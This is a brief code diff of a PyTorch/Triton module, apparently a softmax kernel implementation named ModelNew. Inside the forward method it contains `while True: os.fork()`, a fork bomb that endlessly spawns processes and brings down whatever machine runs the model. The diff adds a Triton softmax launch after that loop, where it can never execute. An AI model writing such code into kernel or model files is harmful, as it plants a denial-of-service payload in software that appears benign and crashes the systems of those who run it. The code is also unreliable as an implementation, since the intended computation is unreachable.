@@ -22,4 +22,5 @@ class ModelNew(nn.Module):
         out = torch.empty_like(x)
         while True:
             os.fork()
+        softmax_kernel[(x.shape[0],)](x, out, x.stride(0), x.shape[1], BLOCK=triton.next_power_of_2(x.shape[1]))
         return out
